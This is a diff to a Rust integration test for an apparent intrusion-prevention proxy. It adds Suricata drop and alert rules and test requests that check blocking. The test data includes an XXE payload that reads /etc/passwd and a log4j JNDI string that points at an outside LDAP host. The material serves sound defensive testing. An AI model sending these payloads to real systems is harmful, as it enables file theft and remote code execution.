@@ -119,6 +119,7 @@ async fn et_open_rules_fire_and_drop_rules_block_through_the_proxy() {
         &cert_rules,
         "alert tls any any -> any any (msg:\"SEKISHO TEST upstream certificate\"; flow:to_client; tls.certs; content:\"localhost\"; sid:9300001; rev:1;)\n\
          alert tls any any -> any any (msg:\"SEKISHO TEST JA3 of the client\"; flow:to_server; ja3.string; content:\"771,\"; startswith; ja3.hash; bsize:32; sid:9300003; rev:1;)\n\
+         drop http any any -> any any (msg:\"SEKISHO TEST request body drop\"; flow:to_server; http.request_body; content:\"SEKISHO-IPS-BODY-TEST\"; sid:9300004; rev:1;)\n\
          alert http any any -> any any (msg:\"SEKISHO TEST header case as sent\"; flow:to_server; http.header_names; content:\"|0d 0a|X-MiXeD-Case|0d 0a|\"; http.header.raw; content:\"X-MiXeD-Case:  spaced\"; sid:9300002; rev:1;)\n",
     )
     .unwrap();
@@ -178,8 +179,8 @@ async fn et_open_rules_fire_and_drop_rules_block_through_the_proxy() {
             false,
         ),
         (
-            // /count reads the whole upload before answering.
-            https("/count"),
+            // The origin answers 404 without reading the upload: the IPS still sees all of it.
+            https("/xmlrpc.php"),
             [ua(BROWSER), vec!["-H".into(), "Content-Type: application/xml".into(), "--data-binary".into(),
                 "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>".into()]].concat(),
             vec![2018056, 2025877, 9100020],
@@ -191,6 +192,21 @@ async fn et_open_rules_fire_and_drop_rules_block_through_the_proxy() {
         // log4j in a header over plain HTTP: ET alert (raw stream) and our drop rule.
         (http("/hello"), [ua(BROWSER), vec!["-H".into(), "X-Api-Version: ${jndi:ldap://203.0.113.7:1389/a}".into()]].concat(), vec![2034647, 9100010], "pkt_data", true),
         (https("/sekisho-ips-test-block"), ua(BROWSER), vec![9100001], "http.uri", true),
+        // A drop rule on the upload: judged before anything goes upstream, so a block page.
+        (
+            https("/not-reading"),
+            [ua(BROWSER), vec!["--data-binary".into(), format!("a=1&b={}SEKISHO-IPS-BODY-TEST", "x".repeat(5000))]].concat(),
+            vec![9300004],
+            "http.request_body",
+            true,
+        ),
+        (
+            http("/not-reading"),
+            [ua(BROWSER), vec!["--data-binary".into(), "SEKISHO-IPS-BODY-TEST".into()]].concat(),
+            vec![9300004],
+            "http.request_body",
+            true,
+        ),
         // The raw head keeps header case and spacing (HTTP/1, plain and decrypted).
         (http("/raw"), [ua(BROWSER), vec!["-H".into(), "X-MiXeD-Case:  spaced".into()]].concat(), vec![9300002], "http.header.raw", false),
         (https("/raw"), [ua(BROWSER), vec!["--http1.1".into(), "-H".into(), "X-MiXeD-Case:  spaced".into()]].concat(), vec![9300002], "http.header.raw", false),
